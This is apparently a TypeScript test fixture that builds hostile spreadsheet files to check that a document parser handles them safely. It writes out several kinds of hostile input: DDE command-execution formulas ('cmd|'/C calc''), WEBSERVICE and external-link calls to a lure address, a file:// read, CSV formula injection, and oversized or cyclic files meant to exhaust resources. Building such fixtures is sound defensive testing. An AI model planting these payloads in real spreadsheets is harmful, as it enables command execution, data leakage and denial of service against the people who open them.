// Spreadsheets with enormous claimed sizes, and ones that try to fetch or execute something.
import { makeOpenDocument, makeSheet, sheetEntries, toEntries } from '../documents/office.ts';
import { makeRawZip } from '../documents/raw-zip.ts';
import { hostile, type HostileFile, type Lures } from './hostile-file.ts';

const WORLD = 'A1:XFD1048576';
const SHEET = 'xl/worksheets/sheet1.xml';
const COMPOUND = Buffer.from('d0cf11e0a1b11ae1', 'hex');

function changeSheet(change: (xml: string) => string): Buffer {
  const entries = sheetEntries({ A1: 'Text' });
  return makeRawZip(toEntries({ ...entries, [SHEET]: change(entries[SHEET] ?? '') }));
}

const cell = (value: string, repeat = ''): string =>
  `<table:table-cell office:value-type="string" ${repeat}><text:p>${value}</text:p></table:table-cell>`;

function openSheet(rows: string): Buffer {
  return makeOpenDocument('spreadsheet', `<table:table table:name="T">${rows}</table:table>`);
}

/** The old format's file system with a cycle in its allocation table. */
function compound(fill: number): Buffer {
  const bytes = Buffer.alloc(512 * 8, fill);
  COMPOUND.copy(bytes);
  Buffer.from('Workbook\0', 'utf16le').copy(bytes, 1_024);
  bytes.writeUInt16LE(9, 30);
  bytes.writeUInt16LE(6, 32);
  for (const offset of [44, 48, 60, 68, 76]) bytes.writeUInt32LE(0, offset);
  return bytes;
}

export function hostileSheets({ address, filePath }: Lures): HostileFile[] {
  const formula = (text: string): Buffer =>
    changeSheet((xml) =>
      xml.replace('<sheetData>', `<sheetData><row r="9"><c r="A9"><f>${text}</f><v>7</v></c></row>`),
    );
  return [
    hostile('claims-the-world.xlsx', 'text', () => makeSheet({ A1: 'Text' }, WORLD)),
    hostile('last-cell-of-the-world.xlsx', 'text', () => makeSheet({ A1: 'Text', XFD1048576: 'far' }, WORLD)),
    hostile('cell-beyond-the-world.xlsx', 'either', () =>
      makeSheet({ A1: 'Text', ZZZZZZ99999999999: 'out' }),
    ),
    hostile('merged-world.xlsx', 'text', () =>
      changeSheet((xml) =>
        xml.replace('</worksheet>', `<mergeCells><mergeCell ref="${WORLD}"/></mergeCells></worksheet>`),
      ),
    ),
    hostile('columns-of-the-world.xlsx', 'text', () =>
      changeSheet((xml) =>
        xml.replace('<sheetData>', '<cols><col min="1" max="2000000000"/></cols><sheetData>'),
      ),
    ),
    hostile('fetches.xlsx', 'text', () => formula(`WEBSERVICE("${address}/sheet")`)),
    hostile('runs.xlsx', 'text', () => formula("cmd|'/C calc'!A0")),
    hostile('reads-a-file.xlsx', 'text', () => formula(`'file://${filePath}'!A1`)),
    hostile('linked.xlsx', 'text', () =>
      makeRawZip(
        toEntries({
          ...sheetEntries({ A1: 'Text' }),
          'xl/externalLinks/externalLink1.xml': `<externalLink><externalBook r:id="rId1"/></externalLink>`,
          'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships><Relationship Id="rId1" Target="${address}/link" TargetMode="External"/></Relationships>`,
        }),
      ),
    ),
    hostile('repeats-the-world.ods', 'text', () =>
      openSheet(
        `<table:table-row table:number-rows-repeated="1048576">${cell('x', 'table:number-columns-repeated="16384"')}</table:table-row>`,
      ),
    ),
    hostile('repeats-many-times.ods', 'either', () =>
      openSheet(
        `<table:table-row>${cell('x', 'table:number-columns-repeated="99"')}</table:table-row>`.repeat(
          20_000,
        ),
      ),
    ),
    hostile('formulas.csv', 'text', () => `=HYPERLINK("${address}/csv")\n@SUM(1)\n+cmd|'/C calc'!A0\n`),
    hostile('table-of-itself.xls', 'either', () => compound(0)),
    hostile('noise.xls', 'either', () => compound(0xab)),
    hostile('head-only.xls', 'invalid_file', () => Buffer.concat([COMPOUND, Buffer.alloc(1_000)])),
    hostile('protected.xlsx', 'file_unreadable', () =>
      Buffer.concat([
        COMPOUND,
        Buffer.alloc(1_000),
        Buffer.from('EncryptedPackage\0', 'utf16le'),
        Buffer.alloc(500),
      ]),
    ),
  ];
}
